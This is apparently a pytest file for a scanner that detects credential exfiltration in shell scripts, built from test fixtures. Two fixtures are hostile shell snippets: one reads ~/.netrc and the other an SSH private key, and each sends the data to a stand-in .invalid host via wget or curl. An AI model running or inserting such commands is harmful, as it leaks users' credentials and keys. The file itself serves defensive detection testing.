"""A ``||`` or ``&&`` list inside a command substitution gives the text of the command that ran last
(``$(command -v a || command -v b)``), carrying whatever any of its commands read: a credential file
read with a fallback (``$(cat f 2>/dev/null || true)``) is still that file when it is sent. Hosts
are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings


@pytest.mark.parametrize(
    "script",
    [
        'tok=$(cat ~/.netrc 2>/dev/null || echo none)\nwget -q --header="X-Id: $tok" https://id.dl-meter.invalid/p\n',
        "grab() {\n  local k\n  k=$(head -c 900 ~/.ssh/id_ed25519 && true)\n"
        '  curl -s -e "https://ref/$k" https://id.dl-meter.invalid/r\n}\ngrab\n',
    ],
)
def test_a_secret_read_with_a_fallback_then_sent(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path, {"scripts/meter.sh": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_a_version_read_with_a_fallback_and_sent_stays_quiet(tmp_path: Path) -> None:
    script = 'v=$(cat VERSION 2>/dev/null || echo 0.0.0)\ncurl -s -A "meter/$v" https://id.dl-meter.invalid/p\n'
    findings = scan_findings(tmp_path, {"scripts/meter.sh": script, "VERSION": "1.2.0\n"})
    assert not [f for f in findings if f.severity.value == "error"]
